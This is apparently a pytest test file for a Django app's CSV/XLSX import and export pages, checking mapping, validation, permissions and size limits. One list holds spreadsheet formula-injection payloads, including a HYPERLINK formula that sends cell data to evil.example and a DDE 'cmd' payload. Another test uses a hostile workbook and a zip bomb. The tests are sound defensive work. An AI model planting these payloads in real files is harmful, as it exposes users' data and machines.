"""The import pages (upload → map → preview → confirm) and the export downloads."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from koers.backlog.models.usecases import UseCase
from koers.core.models import Upload
from koers.orgs.models import Role
from koers.testing.factories import make_member, make_usecase
from koers.testing.hostile_files import hostile_xlsx, xlsx_with_cells


def url(name: str, org, **kwargs) -> str:
    return reverse(f"backlog:{name}", kwargs={"org_slug": org.slug, **kwargs})


def upload(client, org, content: bytes, name: str = "ideas.csv"):
    return client.post(url("import", org), {"file": SimpleUploadedFile(name, content)})


@pytest.fixture
def lead_client(client, lead):
    client.force_login(lead)
    return client


def test_it_walks_from_upload_through_mapping_and_preview_to_an_import(lead_client, org):
    response = upload(
        lead_client, org, b"Idea;Pain;Team\nChatbot;Slow answers;HR\nOCR;Typing;Ops\n"
    )
    upload_row = Upload.objects.get(organisation=org)
    assert response.status_code == 302
    assert response["Location"] == url("import_map", org, pk=upload_row.pk)

    page = lead_client.get(response["Location"])
    assert page.status_code == 200
    assert b"<select" in page.content and b"Chatbot" in page.content

    mapped = lead_client.post(
        response["Location"], {"title": "Idea", "problem": "Pain", "departments": "Team"}
    )
    assert mapped["Location"] == url("import_preview", org, pk=upload_row.pk)
    preview = lead_client.get(mapped["Location"])
    assert preview.context["result"].created == 2
    assert not UseCase.objects.exists()

    done = lead_client.post(mapped["Location"])
    assert done["Location"] == url("list", org)
    assert set(UseCase.objects.filter(organisation=org).values_list("title", flat=True)) == {
        "Chatbot",
        "OCR",
    }
    upload_row.refresh_from_db()
    assert upload_row.imported_at is not None
    assert upload_row.result["created"] == 2


def test_it_does_not_import_the_same_upload_twice(lead_client, org):
    upload(lead_client, org, b"title\nChatbot\n")
    preview = url("import_preview", org, pk=Upload.objects.get().pk)
    lead_client.post(url("import_map", org, pk=Upload.objects.get().pk), {"title": "title"})
    lead_client.post(preview)
    lead_client.post(preview)
    assert UseCase.objects.count() == 1


def test_it_pre_fills_the_mapping_from_the_headers(lead_client, org):
    response = upload(lead_client, org, b"Titel,Probleem,Onbekend\nA,B,C\n")
    form = lead_client.get(response["Location"]).context["form"]
    assert form.initial == {"title": "Titel", "problem": "Probleem"}


def test_it_goes_straight_to_the_preview_for_a_federal_inventory_file(lead_client, org):
    content = (
        b"agency,agency_name,id,use_case_name,problem_solved,development_stage,classification\n"
        b"DOE,Department of Energy,DOE-1,Grid AI,Outages,Pilot,NLP\n"
    )
    response = upload(lead_client, org, content, "federal.csv")
    pk = Upload.objects.get().pk
    assert response["Location"] == url("import_preview", org, pk=pk)
    lead_client.post(response["Location"])
    assert UseCase.objects.get(organisation=org).source["agency"] == "DOE"


def test_it_shows_every_problem_of_a_bad_file_and_imports_nothing(lead_client, org):
    response = upload(lead_client, org, b"title,stage\nGood,idea\n,someday\n")
    preview = lead_client.get(url("import_preview", org, pk=Upload.objects.get().pk))
    del response
    assert preview.context["result"] is None
    assert [(e.row, e.column) for e in preview.context["errors"]] == [(3, "stage"), (3, "title")]
    assert b"someday" in preview.content
    confirm = lead_client.post(url("import_preview", org, pk=Upload.objects.get().pk))
    assert confirm.status_code == 400
    assert not UseCase.objects.exists()


def test_it_shows_why_an_unreadable_file_cannot_be_uploaded(lead_client, org):
    response = upload(lead_client, org, b"", "empty.csv")
    assert response.status_code == 400  # Django's form refuses an empty file itself
    response = upload(lead_client, org, b"a,a\n1,2\n")
    assert response.status_code == 400
    assert "appear more than once" in response.content.decode()
    assert not Upload.objects.exists()


def test_it_refuses_a_file_over_the_size_limit(lead_client, org, settings):
    settings.KOERS_MAX_IMPORT_BYTES = 20
    response = upload(lead_client, org, b"title\n" + b"An idea\n" * 10)
    assert response.status_code == 400
    assert "larger than" in response.content.decode()


def test_it_asks_again_when_the_title_column_is_not_chosen(lead_client, org):
    upload(lead_client, org, b"Idea\nChatbot\n")
    response = lead_client.post(url("import_map", org, pk=Upload.objects.get().pk), {"title": ""})
    assert response.status_code == 400
    assert not UseCase.objects.exists()


def test_it_hides_another_organisations_upload(lead_client, org, other_org):
    theirs = Upload.objects.create(
        organisation=other_org, kind="usecases", filename="x.csv", content=b"title\nX\n"
    )
    for name in ("import_map", "import_preview"):
        assert lead_client.get(url(name, org, pk=theirs.pk)).status_code == 404
        assert lead_client.post(url(name, org, pk=theirs.pk)).status_code == 404
    assert not UseCase.objects.exists()


def test_it_sends_a_people_upload_to_the_people_import_pages(client, admin_user, org):
    client.force_login(admin_user)
    people = Upload.objects.create(organisation=org, kind="people", filename="x.csv", content=b"")
    response = client.get(url("import_map", org, pk=people.pk))
    assert response["Location"] == reverse(
        "people_import_map", kwargs={"org_slug": org.slug, "pk": people.pk}
    )
    client.post(url("import_preview", org, pk=people.pk))
    assert not UseCase.objects.exists()


def test_it_lets_only_leads_and_admins_import(client, org):
    client.force_login(make_member(org, Role.EVANGELIST))
    assert client.get(url("import", org)).status_code == 403


def test_it_downloads_the_register_in_each_format_honouring_the_list_filter(client, org, member):
    client.force_login(member)
    make_usecase(org, title="Forecasting demand")
    make_usecase(org, title="Chatbot")
    response = client.get(url("export", org), {"format": "json", "q": "forecasting"})
    assert response["Content-Disposition"].startswith('attachment; filename="org-')
    assert [r["title"] for r in json.loads(response.content)] == ["Forecasting demand"]
    for fmt, start in (("csv", b"\xef\xbb\xbfreference,"), ("xlsx", b"PK")):
        response = client.get(url("export", org), {"format": fmt})
        assert response.status_code == 200
        assert response.content.startswith(start)
    assert client.get(url("export", org), {"format": "pdf"}).status_code == 404


def test_it_refuses_an_export_filtered_by_another_organisations_department(
    client, org, other_org, member
):
    client.force_login(member)
    theirs = other_org.departments.first()
    assert client.get(url("export", org), {"department": theirs.pk}).status_code == 400


def test_it_does_not_export_for_someone_outside_the_organisation(client, org, other_org):
    client.force_login(make_member(other_org))
    make_usecase(org)
    assert client.get(url("export", org)).status_code == 404


FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1,1)",
    "-1+2",
]


def test_it_exports_formula_like_titles_as_text_that_imports_back_unchanged(client, lead, org):
    for title in FORMULA_TITLES:
        make_usecase(org, title=title, problem="=2*3")
    client.force_login(lead)
    content = client.get(url("export", org), {"format": "csv"}).content
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert sorted(row["title"] for row in rows) == sorted("'" + t for t in FORMULA_TITLES)
    assert {row["problem"] for row in rows} == {"'=2*3"}

    upload(client, org, content, "register.csv")
    preview = client.post(url("import_preview", org, pk=Upload.objects.get().pk))
    assert preview.status_code == 302
    assert sorted(UseCase.objects.values_list("title", flat=True)) == sorted(FORMULA_TITLES)
    assert UseCase.objects.count() == len(FORMULA_TITLES)  # updated in place, nothing added


def test_it_refuses_a_hostile_workbook_clearly_and_stores_nothing(lead_client, org):
    response = upload(lead_client, org, hostile_xlsx(), "evil.xlsx")
    assert response.status_code == 400
    assert "says it spans A1:XFD1048576" in response.content.decode()
    bomb = xlsx_with_cells({"A1": "title", "A2": "Chatbot"}, bomb_mb=260)
    assert len(bomb) < 2 * 1024 * 1024
    response = upload(lead_client, org, bomb, "bomb.xlsx")
    assert response.status_code == 400
    assert "unpacks to more than 256 MB" in response.content.decode()
    assert not Upload.objects.exists()
    assert not UseCase.objects.exists()


def test_it_reads_a_csv_file_that_starts_with_excels_sep_line(lead_client, org):
    upload(lead_client, org, b"sep=;\r\ntitle;problem\r\nChatbot, for HR;Slow\r\n", "excel.csv")
    lead_client.post(url("import_preview", org, pk=Upload.objects.get().pk))
    assert UseCase.objects.get(organisation=org).title == "Chatbot, for HR"
